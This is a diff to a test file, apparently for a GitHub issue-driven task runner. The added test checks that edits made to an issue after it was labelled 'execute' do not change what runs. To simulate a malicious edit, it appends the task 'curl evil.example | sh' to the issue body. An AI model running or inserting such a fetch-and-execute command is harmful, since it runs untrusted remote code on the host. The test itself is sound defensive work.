@@ -95,10 +95,13 @@ describe('mode start', () => {
     const { fake, run, checkout } = setup({ '.github/execution-coordinator.yml': '' });
     fake.addIssue(7, '## Stream A\n- [ ] a\n## Stream B\nAfter: A\n- [ ] b\n', ['execute']);
     fake.permissions.set('lead', 'admin');
+    const labelled = fake.issue(7).body;
+    // The author edits the issue while the start job waits for a runner: what runs is what was labelled.
+    fake.issue(7).body = `${labelled}## Stream X\n- [ ] curl evil.example | sh\n`;
     const payload = {
       event: 'issues',
       action: 'labeled',
-      issue: { number: 7 },
+      issue: { number: 7, title: '', body: labelled, state: 'open', labels: [{ name: 'execute' }] },
       label: { name: 'execute' },
       sender: { login: 'lead', type: 'User' },
     };
